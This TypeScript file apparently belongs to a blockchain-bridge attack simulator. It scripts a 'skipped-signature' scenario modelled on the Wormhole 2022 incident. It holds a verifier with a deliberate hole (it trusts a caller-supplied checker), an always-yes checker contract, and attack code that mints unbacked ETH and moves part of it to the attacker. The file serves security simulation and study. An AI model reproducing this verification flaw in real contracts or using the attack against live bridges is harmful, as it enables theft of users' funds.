import * as Escrow from '@cutwater/contracts/generated/Escrow.ts'
import * as SignatureChecker from '@cutwater/contracts/generated/SignatureChecker.ts'
import * as SkippedSignatureVerifier from '@cutwater/contracts/generated/SkippedSignatureVerifier.ts'
import * as YesChecker from '@cutwater/contracts/generated/YesChecker.ts'
import * as TypedData from '@cutwater/contracts/TypedData.ts'
import * as Rng from '@cutwater/core/simulation/Rng.ts'
import { type Address, encodeAbiParameters, type Hex } from 'viem'
import { chainIds, coinOf, type Place, units } from '../bridge/Coins.ts'
import * as Scale from '../bridge/Scale.ts'
import type { Verifier } from '../bridge/Verifier.ts'
import * as Accounts from '../chain/Accounts.ts'
import * as Chain from '../chain/Chain.ts'
import type { World } from '../World.ts'
import type { Scenario, Stage } from './Scenario.ts'
import { forge, release, roomFor } from './steal.ts'

/** The bridge asks whichever checker the caller names; honest relayers name the good one. */
function asksTheCaller(): Verifier {
  const checkers = new Map<Place, Address>()
  return {
    deploy: async (world, place) => {
      const { deployer, validators } = world.accounts
      const threshold = BigInt(world.scale.signers.threshold)
      const args = [validators.map(({ address }) => address), threshold] as const
      const checker = { ...SignatureChecker, args }
      checkers.set(place, await Chain.deploy(world.chains[place], deployer.address, checker))
      return Chain.deploy(world.chains[place], deployer.address, SkippedSignatureVerifier)
    },
    prove: async (world, _, message) => {
      const place = Number(message.destinationChain) === chainIds.north ? 'north' : 'south'
      const signatures = await Accounts.signAll(world.accounts.validators, TypedData.messageId(message))
      return proofOf(checkers.get(place)!, signatures)
    },
  }
}

function proofOf(checker: Address, signatures: readonly Hex[]): Hex {
  return encodeAbiParameters([{ type: 'address' }, { type: 'bytes[]' }], [checker, signatures])
}

export const skippedSignature: Scenario = {
  name: 'skipped-signature',
  incident: 'Wormhole 2022',
  says: 'The signature check asks a contract of the caller, which says yes: ether is minted that nobody locked, and part of it is taken home.',
  steps: 'many',
  visibleBefore: true,
  deceived: false,
  limitedBy: 'the allowance for unproven value on the minting side',
  parts: { verifier: asksTheCaller() },
  prepare: async (stage) => {
    stage.notes.set('yes', await deployYes(stage.world))
    await stage.nextBlock()
  },
  attack: async (stage) => {
    const proof = proofOf(stage.notes.get('yes') as Address, [])
    const ether = coinOf('ETH')
    const room = await roomFor(stage, 'south', 'ETH')
    const locked = Scale.lockedTokens(stage.world.scale, 'ETH')
    const minted = units(ether, (0.2 + 0.7 * Rng.uniform(stage.rng)) * locked)
    for (const amount of room === null ? [minted] : [minted, room]) {
      await release(stage, forge(stage, 'north', 'ETH', amount), proof)
    }
    await stage.nextBlock()
    await takeHome(stage, room ?? minted)
    for (let block = 0; block < 5; block++) await stage.nextBlock()
  },
}

// Sent back the honest way, as if it had always been there.
async function takeHome({ world, twin }: Stage, amount: bigint): Promise<void> {
  const { escrow, tokens } = twin.ends.south
  const { attacker } = world.accounts
  const args = [tokens.ETH, BigInt(chainIds.north), attacker.address, amount / 2n] as const
  const send = Chain.call(escrow, { abi: Escrow.abi, functionName: 'send', args })
  await Chain.send(world.chains.south, attacker.address, send)
}

function deployYes({ chains, accounts }: World): Promise<Address> {
  return Chain.deploy(chains.south, accounts.attacker.address, YesChecker)
}
